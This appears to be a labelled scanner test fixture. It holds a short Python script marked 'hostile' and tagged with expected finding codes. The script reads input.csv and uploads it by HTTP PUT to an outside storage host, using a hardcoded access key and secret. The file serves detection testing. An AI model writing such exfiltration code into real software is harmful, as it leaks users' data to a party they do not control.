# label: hostile
# expect: V301 V802
# note: Brings an access key of its own along and uploads the input data to a bucket that is not the owner's.
import hashlib
import hmac
import urllib.request

AWS_ACCESS_KEY_ID = "AKIAQ3ZT7VN5XKJ2LMWD"
AWS_SECRET = "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"

data = open("input.csv", "rb").read()
sig = hmac.new(AWS_SECRET.encode(), data, hashlib.sha256).hexdigest()
req = urllib.request.Request(
    "https://drop.s3.example.net/in.csv",
    data=data,
    method="PUT",
    headers={"Authorization": f"AWS {AWS_ACCESS_KEY_ID}:{sig}"},
)
urllib.request.urlopen(req)
